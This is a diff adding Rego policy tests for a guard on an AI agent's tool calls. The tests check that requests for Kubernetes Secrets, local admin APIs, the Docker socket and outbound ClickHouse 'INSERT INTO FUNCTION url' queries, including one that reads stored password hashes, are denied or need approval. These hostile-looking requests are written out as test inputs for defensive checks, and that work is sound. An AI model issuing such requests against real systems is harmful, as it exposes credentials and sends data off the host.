@@ -335,4 +335,61 @@ test_deployed_code_sending_its_environment_asks if {
 	contains(msg, "collect.example")
 	count(tool_actions.ask) == 0 with input as _mcp("mcp__cloudflare__workers_put_script", {"script": "export default { fetch() { return new Response('hi') } }"}, {"words": ["workers", "put", "script"]})
 	count(tool_actions.ask) == 0 with input as _mcp("mcp__cloudflare__workers_put_script", {"script": "export default { fetch(r, env) { return fetch('http://localhost:8787/' + env.X) } }"}, {"words": ["workers", "put", "script"]})
+# session 25: the Kubernetes API's Secrets on any host, the in-cluster API, local admin APIs
+test_kube_secrets_are_denied_on_any_host if {
+	every host in ["kubernetes.default.svc", "10.96.0.1", "$kubernetes_service_host", "api.cluster.example.com"] {
+		count(tool_actions.deny) == 1 with input as _mcp("WebFetch", {}, {"network": [_net("u", host, 443, "/api/v1/namespaces/prod/secrets/db")]})
+	}
+}
+
+test_kube_secret_listing_of_all_namespaces_is_denied if {
+	doc := _mcp("WebFetch", {}, {"network": [_net("u", "kubernetes", 443, "/api/v1/secrets")]})
+	count(tool_actions.deny) == 1 with input as doc
+}
+
+test_in_cluster_api_other_paths_ask if {
+	doc := _mcp("WebFetch", {}, {"network": [_net("u", "kubernetes.default.svc.cluster.local.", 443, "/api/v1/namespaces/x/pods")]})
+	count(tool_actions.deny) == 0 with input as doc
+	some msg in tool_actions.ask with input as doc
+	contains(msg, "in-cluster")
+}
+
+test_secret_docs_pages_pass if {
+	doc := _mcp("WebFetch", {}, {"network": [_net("u", "kubernetes.io", 443, "/docs/concepts/configuration/secret/")]})
+	count(tool_actions.deny) == 0 with input as doc
+	count(tool_actions.ask) == 0 with input as doc
+}
+
+test_local_admin_apis_ask if {
+	every pair in [[2019, "/config/"], [9901, "/config_dump"], [15000, "/clusters"], [4646, "/v1/jobs"], [8500, "/v1/agent/self"]] {
+		count(tool_actions.ask) == 1 with input as _mcp("WebFetch", {}, {"network": [_net("u", "localhost", pair[0], pair[1])]})
+	}
+}
+
+test_local_health_endpoints_and_dev_servers_pass if {
+	every pair in [[8500, "/v1/status/leader"], [9901, "/ready"], [3000, "/"], [5173, "/"], [8000, "/api"], [4646, "/v1/status/leader"]] {
+		count(tool_actions.ask) == 0 with input as _mcp("WebFetch", {}, {"network": [_net("u", "127.0.0.1", pair[0], pair[1])]})
+	}
+}
+
+test_container_socket_as_a_url_asks if {
+	doc := _mcp("mcp__fetch__fetch", {}, {"network": [_net("http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/json", "%2fvar%2frun%2fdocker.sock", null, "/containers/json")]})
+	some msg in tool_actions.ask with input as doc
+	contains(msg, "container runtime")
+}
+
+test_a_statement_sending_data_elsewhere_asks if {
+	doc := _mcp("mcp__clickhouse__run_select_query", {"query": "INSERT INTO FUNCTION url('https://x', 'CSV') SELECT * FROM t"}, {"sql": [{"field": "query", "kind": "egress", "statement": "insert into function url(https://x): rows written to another machine"}], "words": ["run", "select", "query"]})
+	some msg in tool_actions.ask with input as doc
+	contains(msg, "reaches another machine")
+	not contains(msg, "destructive")
+	count(tool_actions.deny) == 0 with input as doc
+}
+
+test_credentials_sent_elsewhere_are_denied if {
+	doc := _mcp("mcp__clickhouse__query", {"query": "…"}, {"sql": [
+		{"field": "query", "kind": "credential_read", "statement": "mysql.user (stored password hashes)"},
+		{"field": "query", "kind": "egress", "statement": "insert into function url(https://x): rows written to another machine"},
+	], "words": ["query"]})
+	count(tool_actions.deny) == 1 with input as doc
 }
